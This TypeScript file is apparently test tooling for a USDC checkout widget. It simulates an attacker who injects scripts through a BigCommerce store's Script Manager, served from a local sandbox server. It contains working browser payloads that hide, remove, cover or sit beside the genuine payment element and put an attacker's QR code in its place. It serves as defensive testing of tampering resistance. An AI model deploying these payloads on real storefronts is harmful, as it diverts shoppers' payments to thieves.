// What a thief does to a checkout, as scripts in the shop's Script Manager.
import { createHash } from 'node:crypto'
import { createServer, type RequestListener, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Sandbox } from '../demo/sandbox.js'
import { encodeQr } from '../src/qr/encode.js'

/** Runs something while a server on loopback answers. */
export async function serving<Value>(
  answer: RequestListener,
  use: (url: string) => Promise<Value>,
): Promise<Value> {
  const server: Server = createServer(answer)
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  try {
    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)
  } finally {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
}

/** Puts a script into the shop as a thief with access to its Script Manager does. */
export async function withScript<Value>(
  sandbox: Sandbox,
  code: string,
  use: () => Promise<Value>,
): Promise<Value> {
  const answer: RequestListener = (_, response) => {
    response.writeHead(200, {
      'content-type': 'text/javascript',
      'access-control-allow-origin': '*',
    })
    response.end(code)
  }
  return serving(answer, async (url) => {
    const name = 'Harmless counter'
    sandbox.bigCommerce.books.pasteScript({
      name,
      kind: 'src',
      src: `${url}/counter.js`,
      load_method: 'default',
      location: 'head',
      visibility: 'all_pages',
      consent_category: 'essential',
      enabled: true,
      integrity_hashes: [`sha384-${createHash('sha384').update(code).digest('base64')}`],
    })
    try {
      return await use()
    } finally {
      const script = sandbox.bigCommerce.books.scripts().find((one) => one.name === name)
      if (script !== undefined) sandbox.bigCommerce.books.deleteScript(script.uuid)
    }
  })
}

/** Draws a code of the thief's; `place(element, own)` puts it onto the page. */
export function attack(text: string, place: string): string {
  const { size, path } = encodeQr(text)
  return `(() => {
  const ns = 'http://www.w3.org/2000/svg'
  const make = (name, attributes) => {
    const node = document.createElementNS(ns, name)
    for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value)
    return node
  }
  const own = document.createElement('div')
  own.style.cssText = 'background:#fff;padding:24px;inline-size:240px'
  const svg = make('svg', { viewBox: '0 0 ${size} ${size}', width: 240, height: 240 })
  svg.append(
    make('rect', { width: ${size}, height: ${size}, fill: '#fff' }),
    make('path', { d: '${path}', fill: '#000' }),
  )
  own.append(svg)
  const place = ${place}
  new MutationObserver(() => {
    const element = document.querySelector('pay-with-usdc')
    if (element !== null) place(element, own)
  }).observe(document, { childList: true, subtree: true })
})()`
}

/** Hides our element and stands in its place. */
export const replaces = `(element, own) => {
  if (own.isConnected) return
  element.style.display = 'none'
  element.after(own)
}`
/** Takes our element away, and the place that it would come back to. */
export const removes = `(element, own) => {
  if (own.isConnected) return
  element.after(own)
  // Where ours would come back to is not to be found any more.
  document.querySelector('#checkout-app').id = 'app'
  element.remove()
}`
/** Lies over our element, which stays where it is. */
export const covers = `(element, own) => {
  if (own.isConnected) return
  const follow = () => {
    const { top, left, width, height } = element.getBoundingClientRect()
    own.style.cssText =
      'background:#fff;position:absolute;z-index:9999;top:' + (top + scrollY) + 'px;left:' +
      (left + scrollX) + 'px;width:' + width + 'px;height:' + height + 'px'
  }
  document.body.append(own)
  new ResizeObserver(follow).observe(element)
}`
/** Stands beside our element. */
export const adds = `(element, own) => {
  if (!own.isConnected) element.after(own)
}`
